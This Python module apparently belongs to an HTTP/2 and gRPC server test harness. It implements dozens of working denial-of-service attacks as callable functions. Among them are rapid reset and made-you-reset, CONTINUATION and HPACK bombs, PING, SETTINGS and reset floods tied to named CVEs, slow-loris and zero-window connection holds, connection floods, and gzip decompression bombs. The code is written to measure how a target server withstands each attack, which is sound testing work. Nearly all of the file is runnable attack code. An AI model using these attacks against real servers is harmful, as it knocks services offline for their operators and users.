"""The hostile clients: each attack is a function of the target and the patience, and tells what the server did with it.

Attacks come from 127.0.0.2, so a limit per peer spares the honest client.
"""
import gzip
import ipaddress
import itertools
import resource
import socket
import threading
import time
from collections import Counter
from dataclasses import dataclass, field

from connection import EMPTY_GRPC_MESSAGE, WAIT_S
from wire import (Flag, Kind, Literal, MAXIMUM_WINDOW, PREFACE, Setting, block, code_name, continuation, data, frame, goaway,
                  headers, indexed, literal, padded, ping, priority, rst_stream, settings, settings_ack, window_update)

FLOOD_FRAMES = 200_000
FLOOD_STREAMS = 20_000
FLOOD_CONTINUATIONS = 10_000
UNREAD_FRAMES = 2_000_000  # more than the buffers of both kernels hold, there and back
BOMB_STREAMS = 320  # of 16 KiB each: 5 MiB on the wire, 18 GiB of decoded fields
SLOW_CONNECTIONS = 200
ZERO_WINDOW_CONNECTIONS = 18
FLOOD_CONNECTIONS, CONNECTIONS_PER_PEER = 1_200, 1_000
OPEN_STREAMS = 100  # what servers allow by default, or more
CALLS = 2_000
STREAM_WINDOW = 65_535  # the initial one (RFC 9113 6.9.2)
INFLATED_MESSAGE, GZIP_BOMBS = 56 * 2**20, 15  # 55 KiB each when deflated, so all fit a window of 1 MiB
FRAMES_PER_WRITE = 50
UNKNOWN_KIND = 0x16  # a frame type that nobody has assigned
ATTACKER_ADDRESS = "127.0.0.2"
LAST_PING = b"the last"
MALFORMED = block([(":method", "GET"), ("X", "y")])  # a name with a capital letter, and no path

ATTACKS = {}


@dataclass
class Outcome:
    """What the server did with one attacker. `frames` and `octets` are what it (or its kernel) took."""
    ending: str
    stopped: bool
    frames: int = 0
    octets: int = 0
    received: dict = field(default_factory=dict)


class Attacker:
    """A connection that writes as fast as it can, and reads everything or (`reads` is false) nothing at all."""

    def __init__(self, target, *pairs, greeting=None, reads=True):
        """`greeting` replaces the preface and our SETTINGS with `pairs`."""
        self.target = target
        self.received = Counter()
        self.resets = 0
        self.opened = 0
        self.over = set()  # the streams that the server has answered or reset
        self.goaway = None
        self.credit = Counter()
        self.closed = threading.Event()
        self.answered = threading.Event()
        self.frames = self.octets = 0
        self.stalled = False
        self._socket = connect(target)
        self.send(greeting if greeting is not None else PREFACE + settings(*pairs) + settings_ack(), 0)
        self._reader = threading.Thread(target=self._read, daemon=True)
        if reads:
            self._reader.start()

    def send(self, octets, frames):
        """Whether the server still takes what we send."""
        if self.ended:
            return False
        try:
            self._socket.sendall(octets)
        except TimeoutError:
            self.stalled = True
            return False
        except OSError:
            if not self._reader.is_alive():
                self.closed.set()
            return False
        self.octets += len(octets)
        self.frames += frames
        return True

    @property
    def ended(self):
        return self.goaway is not None or self.closed.is_set()

    @property
    def spent(self):
        """Nothing that it began goes on."""
        return self.ended or len(self.over) >= self.opened

    def wait_for(self, condition, patience=WAIT_S):
        """Whether that comes true before the server ends the connection, or the wait is over."""
        deadline = time.monotonic() + patience
        while not condition() and not self.ended and time.monotonic() < deadline:
            time.sleep(0.0002)
        return condition()

    def close(self):
        try:
            self._socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        if self._reader.is_alive():
            self._reader.join(WAIT_S)
        self._socket.close()

    def outcome(self):
        if self.goaway is not None:
            ending = f"GOAWAY {code_name(self.goaway)}"
        else:
            ending = "closed" if self.closed.is_set() else "stalled" if self.stalled else "all taken"
        return Outcome(ending, self.ended, self.frames, self.octets, dict(self.received))

    def request(self, stream, end_stream, *more):
        """HEADERS of a request, a gRPC call if the target names one."""
        path = self.target.call or self.target.path
        fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a")]
        if self.target.call:
            fields += [("content-type", "application/grpc"), ("te", "trailers")]
        self.opened += 1
        return headers(stream, block([*fields, *more]), end_stream=end_stream)

    def _read(self):
        buffer = b""
        try:
            while chunk := self._receive():
                buffer = self._count(buffer + chunk)
        except OSError:
            pass
        self.closed.set()

    def _receive(self):
        while True:
            try:
                return self._socket.recv(1 << 18)
            except TimeoutError:
                continue

    def _count(self, buffer):
        """Count the complete frames; return the rest."""
        at = 0
        while len(buffer) >= at + 9 and len(buffer) >= (end := at + 9 + int.from_bytes(buffer[at:at + 3])):
            kind, flags, payload = buffer[at + 3], buffer[at + 4], buffer[at + 9:end]
            if kind == Kind.RST_STREAM:
                self.received[f"RST_STREAM {code_name(int.from_bytes(payload))}"] += 1
                self.resets += 1
            elif kind == Kind.GOAWAY:
                self.goaway = int.from_bytes(payload[4:8])
            else:
                self.received[Kind(kind).name if kind in set(Kind) else "other"] += 1
                if kind == Kind.WINDOW_UPDATE:
                    self.credit[int.from_bytes(buffer[at + 5:at + 9])] += int.from_bytes(payload)
            if kind == Kind.RST_STREAM or (kind in (Kind.DATA, Kind.HEADERS) and flags & Flag.END_STREAM):
                self.over.add(int.from_bytes(buffer[at + 5:at + 9]))
            if kind == Kind.PING and payload == LAST_PING:
                self.answered.set()
            at = end
        return buffer[at:]


def connect(target):
    local = ipaddress.ip_address(target.host).version == 4
    connected = socket.create_connection((target.host, target.port), WAIT_S, (ATTACKER_ADDRESS, 0) if local else None)
    connected.settimeout(WAIT_S)
    return connected


def attack(name, needs_call=False):
    """Register an attack: a function of the target (and the patience) that returns an Outcome."""
    def register(run):
        run.needs_call = needs_call
        ATTACKS[name] = run
        return run
    return register


def flood(target, writes, can_ping=True, frames_per_reset=None):
    """Send what `writes(attacker)` yields, FRAMES_PER_WRITE frames at a time, until the server ends it; then see that it has
    read all, by an answer to PING (where one is legal).

    With `frames_per_reset` each write waits for the resets it provokes, so that no limit on open streams is met."""
    attacker = Attacker(target)
    try:
        for some, octets in batches(writes(attacker)):
            if not attacker.send(octets, some):
                break
            if frames_per_reset and not attacker.wait_for(lambda: attacker.resets >= attacker.frames // frames_per_reset):
                break
        else:
            if can_ping:
                attacker.send(ping(LAST_PING), 1)
        await_end(attacker)
        return attacker.outcome()
    finally:
        attacker.close()


def flood_unread(target, writes):
    """Send what `writes(attacker)` yields, and never read an answer. To be left waiting is an end, too."""
    attacker = Attacker(target, reads=False)
    try:
        for some, octets in batches(writes(attacker)):
            if not attacker.send(octets, some):
                break
        outcome = attacker.outcome()
        outcome.stopped = outcome.stopped or attacker.stalled
        return outcome
    finally:
        attacker.close()


def converse(target, patience, call, *pairs):
    """Make FRAMES_PER_WRITE calls at a time, which any client may, as fast as the server answers them: `call(attacker, stream)`
    is the frames of one. Each is to be over within the patience."""
    attacker = Attacker(target, *pairs)
    try:
        for some, octets in batches(b"".join(call(attacker, stream)) for stream in streams(CALLS)):
            if not (attacker.send(octets, some) and attacker.wait_for(lambda: attacker.spent, patience)):
                break
        outcome = attacker.outcome()
        if not outcome.stopped:
            outcome.ending, outcome.stopped = f"{len(attacker.over)} of {attacker.opened} calls over", attacker.spent
        return outcome
    finally:
        attacker.close()


def hold(patience, attackers, what, is_over, meanwhile=None):
    """Keep the connections until all are over, or for so long; once a second each may go on by `meanwhile`."""
    held = []
    try:
        for attacker in attackers:
            held.append(attacker)
    except OSError as error:
        what = f"{what} (connecting failed: {error})"
    begin = time.monotonic()
    tick = begin + 1
    while time.monotonic() < begin + patience and not all(map(is_over, held)):
        if meanwhile and time.monotonic() >= tick:
            tick += 1
            for attacker in held:
                meanwhile(attacker)
        time.sleep(0.05)
    left = sum(not is_over(attacker) for attacker in held)
    seconds = time.monotonic() - begin
    received = sum((attacker.received for attacker in held), Counter())
    outcome = Outcome(f"{left} of {len(held)} {what} left after {seconds:.1f} s", left == 0,
                      sum(attacker.frames for attacker in held), sum(attacker.octets for attacker in held), dict(received))
    for attacker in held:
        attacker.close()
    return outcome


def batches(frames):
    """FRAMES_PER_WRITE frames at a time: how many, and their octets."""
    frames = iter(frames)
    while some := list(itertools.islice(frames, FRAMES_PER_WRITE)):
        yield len(some), b"".join(some)


def await_end(attacker):
    """Until the server has ended the connection or answered the last PING, or has sent nothing more for the wait."""
    deadline, before = time.monotonic() + WAIT_S, None
    while not attacker.ended and not attacker.answered.is_set() and time.monotonic() < deadline:
        now = attacker.received.total()
        if now != before:
            deadline, before = time.monotonic() + WAIT_S, now
        attacker.closed.wait(0.01)


def streams(count):
    return range(1, 2 * count, 2)


# Streams opened to be reset


@attack("rapid-reset")
def rapid_reset(target, _):
    """CVE-2023-44487: open a stream and reset it at once, so that no limit on open streams is ever met."""
    return flood(target, lambda a: (part for stream in streams(FLOOD_STREAMS)
                                    for part in (a.request(stream, end_stream=True), rst_stream(stream))))


@attack("made-you-reset")
def made_you_reset(target, _):
    """CVE-2025-8671: make the server reset the stream, by overflowing its window, while its handler runs on."""
    return flood(target, lambda a: (part for stream in streams(FLOOD_STREAMS)
                                    for part in (a.request(stream, end_stream=False), window_update(stream, MAXIMUM_WINDOW))),
                 frames_per_reset=2)


@attack("window-update-zero")
def window_update_zero(target, _):
    """An illegal WINDOW_UPDATE in stream after stream."""
    return flood(target, lambda a: (part for stream in streams(FLOOD_STREAMS)
                                    for part in (a.request(stream, end_stream=False), window_update(stream, 0))),
                 frames_per_reset=2)


@attack("malformed-headers")
def malformed_headers(target, _):
    """Make the server reset the stream by a malformed request."""
    return flood(target, lambda a: (headers(stream, MALFORMED) for stream in streams(FLOOD_STREAMS)), frames_per_reset=1)


@attack("data-after-end")
def data_after_end(target, _):
    """DATA in streams that the client has ended."""
    return flood(target, lambda a: (part for stream in streams(FLOOD_STREAMS)
                                    for part in (a.request(stream, end_stream=True), data(stream, b"late"))))


@attack("closed-stream-reset-flood")
def closed_stream_reset_flood(target, _):
    """RST_STREAM again and again, of a stream that is over."""
    return flood(target, lambda a: itertools.chain([a.request(1, end_stream=True)],
                                                   itertools.repeat(rst_stream(1), FLOOD_FRAMES)))


@attack("closed-stream-data-flood")
def closed_stream_data_flood(target, _):
    """DATA of one octet, which no stream's window limits, in a stream that the client has reset."""
    return flood(target, lambda a: itertools.chain([a.request(1, end_stream=False), rst_stream(1)],
                                                   itertools.repeat(data(1, b"x", end_stream=False), FLOOD_FRAMES)))


@attack("skipped-stream-flood")
def skipped_stream_flood(target, _):
    """Skip stream identifiers, which closes them (RFC 9113 5.1.1), then open the first of them for ever."""
    def writes(a):
        for stream in range(1, 2 * OPEN_STREAMS, 4):
            yield a.request(stream, end_stream=True)
        yield from itertools.repeat(a.request(3, end_stream=True), FLOOD_STREAMS)
    return flood(target, writes)


# Header blocks


@attack("continuation-flood")
def continuation_flood(target, _):
    """A header block that never ends."""
    def writes(a):
        yield headers(1, block([(":method", "GET")]), end_headers=False)
        yield from itertools.repeat(continuation(1, block([("a", "b")]), end_headers=False), FLOOD_CONTINUATIONS)
    return flood(target, writes, can_ping=False)


@attack("hpack-bomb")
def hpack_bomb(target, _):
    """A large entry of the dynamic table, then one octet for each repetition: 16 KiB decode to 64 MiB."""
    entry = literal(Literal.INDEXED, b"x", b"y" * 4000)
    newest = indexed(62)

    def writes(a):
        for stream in streams(BOMB_STREAMS):
            lines = block([(":method", "GET"), (":scheme", "http"), (":path", target.path), (":authority", "a")])
            lines += entry if stream == 1 else b""
            yield headers(stream, lines + newest * (2**14 - len(lines)))
    return flood(target, writes)


@attack("table-size-juggling")
def table_size_juggling(target, _):
    """Make the server's encoder drop its dynamic table and grow a new one, between request and request."""
    sizes = itertools.cycle([0, 2**32 - 1])

    def writes(a):
        for stream in streams(FLOOD_STREAMS):
            yield settings((Setting.HEADER_TABLE_SIZE, next(sizes)))
            yield a.request(stream, end_stream=True)
    return flood(target, writes)


# Frames that cost more than they carry


@attack("ping-flood")
def ping_flood(target, _):
    """PING after PING, each to be answered."""
    return flood(target, lambda a: itertools.repeat(ping(b"adflight"), FLOOD_FRAMES))


@attack("ping-ack-flood")
def ping_ack_flood(target, _):
    """Answers to PINGs that were never sent."""
    return flood(target, lambda a: itertools.repeat(ping(b"adflight", ack=True), FLOOD_FRAMES))


@attack("settings-flood")
def settings_flood(target, _):
    """SETTINGS after SETTINGS, each to be acknowledged."""
    return flood(target, lambda a: itertools.repeat(settings((Setting.MAX_CONCURRENT_STREAMS, 100)), FLOOD_FRAMES))


@attack("settings-ack-flood")
def settings_ack_flood(target, _):
    """Acknowledgements of SETTINGS that were never sent."""
    return flood(target, lambda a: itertools.repeat(settings_ack(), FLOOD_FRAMES))


@attack("window-size-juggling")
def window_size_juggling(target, _):
    """SETTINGS that each change the window of every open stream (RFC 9113 6.9.2)."""
    sizes = itertools.cycle([0, MAXIMUM_WINDOW])

    def writes(a):
        for stream in streams(OPEN_STREAMS):
            yield a.request(stream, end_stream=False)
        for _ in range(FLOOD_FRAMES):
            yield settings((Setting.INITIAL_WINDOW_SIZE, next(sizes)))
    return flood(target, writes)


@attack("priority-flood")
def priority_flood(target, _):
    """CVE-2019-9513: PRIORITY after PRIORITY, each about another idle stream."""
    return flood(target, lambda a: (priority(2 * n + 1) for n in range(FLOOD_FRAMES)))


@attack("goaway-flood")
def goaway_flood(target, _):
    """Announce the end again and again, and stay."""
    return flood(target, lambda a: itertools.chain([a.request(1, end_stream=False)], itertools.repeat(goaway(), FLOOD_FRAMES)))


@attack("empty-data-flood")
def empty_data_flood(target, _):
    """CVE-2019-9518: DATA frames without an octet, which no window limits."""
    return flood(target, lambda a: itertools.chain([a.request(1, end_stream=False)],
                                                   itertools.repeat(data(1, end_stream=False), FLOOD_FRAMES)))


@attack("padding-flood")
def padding_flood(target, _):
    """DATA frames of nothing but the padding's length, within the window."""
    nothing = frame(Kind.DATA, Flag.PADDED, 1, padded(b"", 0))
    return flood(target, lambda a: itertools.chain([a.request(1, end_stream=False)], itertools.repeat(nothing, STREAM_WINDOW)))


@attack("window-update-flood")
def window_update_flood(target, _):
    """Window after window, each too small to be of use."""
    return flood(target, lambda a: itertools.repeat(window_update(0, 1), FLOOD_FRAMES))


@attack("stream-window-update-flood")
def stream_window_update_flood(target, _):
    """The same on a stream, whose response has not begun."""
    return flood(target, lambda a: itertools.chain([a.request(1, end_stream=False)],
                                                   itertools.repeat(window_update(1, 1), FLOOD_FRAMES)))


@attack("unknown-frame-flood")
def unknown_frame_flood(target, _):
    """Frames that must be ignored, but cost work."""
    return flood(target, lambda a: itertools.repeat(frame(UNKNOWN_KIND), FLOOD_FRAMES))


# Answers that nobody reads


@attack("unread-ping-flood")
def unread_ping_flood(target, _):
    """CVE-2019-9512: PING after PING, and the answers pile up."""
    return flood_unread(target, lambda a: itertools.repeat(ping(b"adflight"), UNREAD_FRAMES))


@attack("unread-settings-flood")
def unread_settings_flood(target, _):
    """CVE-2019-9515: SETTINGS after SETTINGS, and the acknowledgements pile up."""
    return flood_unread(target, lambda a: itertools.repeat(settings((Setting.MAX_CONCURRENT_STREAMS, 100)), UNREAD_FRAMES))


@attack("unread-reset-flood")
def unread_reset_flood(target, _):
    """CVE-2019-9514: malformed requests, and their RST_STREAMs pile up."""
    return flood_unread(target, lambda a: (headers(stream, MALFORMED) for stream in streams(UNREAD_FRAMES)))


@attack("unread-responses")
def unread_responses(target, _):
    """CVE-2019-9517: HTTP/2 windows without an end, but nobody reads the socket."""
    def writes(a):
        yield settings((Setting.INITIAL_WINDOW_SIZE, MAXIMUM_WINDOW)) + window_update(0, MAXIMUM_WINDOW - STREAM_WINDOW)
        for stream in streams(UNREAD_FRAMES):
            yield a.request(stream, end_stream=False) + data(stream, EMPTY_GRPC_MESSAGE)
    return flood_unread(target, writes)


# Clients that take their time


@attack("slow-loris")
def slow_loris(target, patience):
    """Connections that say half of something, then nothing: half a preface, no SETTINGS, half a header block."""
    half_request = PREFACE + settings() + headers(1, block([(":method", "GET")]), end_headers=False)
    greetings = itertools.islice(itertools.cycle([PREFACE[:12], PREFACE, half_request]), SLOW_CONNECTIONS)
    return hold(patience, (Attacker(target, greeting=greeting) for greeting in greetings), "half-said connections",
                lambda attacker: attacker.ended)


@attack("slow-body")
def slow_body(target, patience):
    """A message on each stream that grows by one octet a second."""
    attacker = Attacker(target)
    for stream in streams(OPEN_STREAMS):
        attacker.send(attacker.request(stream, end_stream=False) + data(stream, bytes([0, 0, 0, 4, 0]), end_stream=False), 2)

    def go_on(attacker):
        going = [data(stream, b"\0", end_stream=False) for stream in streams(OPEN_STREAMS) if stream not in attacker.over]
        attacker.send(b"".join(going), len(going))
    return hold(patience, [attacker], "connections of slow bodies", lambda attacker: attacker.spent, go_on)


@attack("half-messages", needs_call=True)
def half_messages(target, patience):
    """Messages of 4 MiB, as far as the windows let them, that lack their last octet, of calls with an hour of time."""
    size = 4 * 2**20
    attacker = Attacker(target)
    attacker.wait_for(lambda: attacker.received["WINDOW_UPDATE"])
    sent = Counter()
    for stream in streams(OPEN_STREAMS):
        attacker.send(attacker.request(stream, False, ("grpc-timeout", "1H")), 1)

    def room(stream):
        windows = (STREAM_WINDOW + attacker.credit[stream] - sent[stream], STREAM_WINDOW + attacker.credit[0] - sent.total())
        return min(*windows, 2**14, size + 4 - sent[stream])

    def go_on(attacker):
        going = True
        while going and not attacker.ended:
            going = False
            for stream in streams(OPEN_STREAMS):
                if stream in attacker.over or (count := room(stream)) <= 0:
                    continue
                octets = bytes(count) if sent[stream] else b"\0" + size.to_bytes(4) + bytes(count - 5)
                going = attacker.send(data(stream, octets, end_stream=False), 1)
                sent[stream] += count
    go_on(attacker)
    return hold(patience, [attacker], "connections of half messages", lambda attacker: attacker.spent, go_on)


@attack("zero-window")
def zero_window(target, patience):
    """Requests whose responses may never be sent, for our windows stay at zero."""
    def reader():
        attacker = Attacker(target, (Setting.INITIAL_WINDOW_SIZE, 0))
        for stream in streams(OPEN_STREAMS):
            attacker.send(attacker.request(stream, end_stream=False) + data(stream, EMPTY_GRPC_MESSAGE), 2)
        return attacker
    return hold(patience, (reader() for _ in range(ZERO_WINDOW_CONNECTIONS)), "connections of unread responses",
                lambda attacker: attacker.spent)


@attack("connection-flood")
def connection_flood(target, patience):
    """More connections than one address may have, each as a client that has not yet anything to ask."""
    least, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(least, min(most, 2 * FLOOD_CONNECTIONS)), most))
    sockets, deadline = [], time.monotonic() + patience
    try:
        for _ in range(FLOOD_CONNECTIONS):
            sockets.append(connect(target))
            sockets[-1].sendall(PREFACE + settings() + settings_ack())
            sockets[-1].setblocking(False)
        while (left := sum(map(is_open, sockets))) > CONNECTIONS_PER_PEER and time.monotonic() < deadline:
            time.sleep(0.05)
        return Outcome(f"{left} of {len(sockets)} connections left", left <= CONNECTIONS_PER_PEER)
    finally:
        for each in sockets:
            each.close()


def is_open(connected):
    """Whether the server has left that open; what it said there is dropped."""
    try:
        while connected.recv(65536):
            pass
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


# Calls


@attack("data-dribble")
def data_dribble(target, patience):
    """CVE-2019-9511: windows of one octet, so that a response takes as many DATA frames as it has octets."""
    def call(a, stream):
        return [a.request(stream, end_stream=False), data(stream, EMPTY_GRPC_MESSAGE), *[window_update(stream, 1)] * 15]
    return converse(target, patience, call, (Setting.INITIAL_WINDOW_SIZE, 1))


@attack("expired-calls", needs_call=True)
def expired_calls(target, patience):
    """Calls whose deadline is over when they arrive: every other one whole, the rest waiting for their message."""
    def call(a, stream):
        yield a.request(stream, False, ("grpc-timeout", "1n"))
        if stream % 4 == 1:
            yield data(stream, EMPTY_GRPC_MESSAGE)
    return converse(target, patience, call)


@attack("field-bomb", needs_call=True)
def field_bomb(target, patience):
    """Messages of 4 KiB that inflate to the 4 MiB that most servers allow, of fields of two and three bytes: whoever makes
    an object of each takes a hundred times as much, and a while."""
    bodies = []
    for field in (b"\x0a\0", b"\xfa\x07\0", b"\xf8\x07\x01", b"\x08\x01"):
        message = gzip.compress(field * (4 * 2**20 // len(field)))
        bodies.append(b"\1" + len(message).to_bytes(4) + message)
    attacker = Attacker(target)
    attacker.wait_for(lambda: attacker.received["WINDOW_UPDATE"])
    for stream, body in zip(streams(GZIP_BOMBS), itertools.cycle(bodies)):
        attacker.send(attacker.request(stream, False, ("grpc-encoding", "gzip")), 1)
        for at in range(0, len(body), 2**14):
            attacker.send(data(stream, body[at:at + 2**14], end_stream=at + 2**14 >= len(body)), 1)
    return hold(patience, [attacker], "connections of bombs", lambda attacker: attacker.spent)


@attack("gzip-bomb", needs_call=True)
def gzip_bomb(target, patience):
    """Messages of 55 KiB that inflate to 56 MiB: each is to be refused, and nothing that large to be held for it. Every
    other one says of itself that it inflates to the 4 MiB that most servers allow."""
    honest = gzip.compress(bytes(INFLATED_MESSAGE))
    lying = honest[:-4] + (4 * 2**20).to_bytes(4, "little")
    bodies = itertools.cycle(b"\1" + len(message).to_bytes(4) + message for message in (honest, lying))
    attacker = Attacker(target)
    attacker.wait_for(lambda: attacker.received["WINDOW_UPDATE"])
    for stream, body in zip(streams(GZIP_BOMBS), bodies):
        attacker.send(attacker.request(stream, False, ("grpc-encoding", "gzip")), 1)
        for at in range(0, len(body), 2**14):
            attacker.send(data(stream, body[at:at + 2**14], end_stream=at + 2**14 >= len(body)), 1)
    return hold(patience, [attacker], "connections of bombs", lambda attacker: attacker.spent)
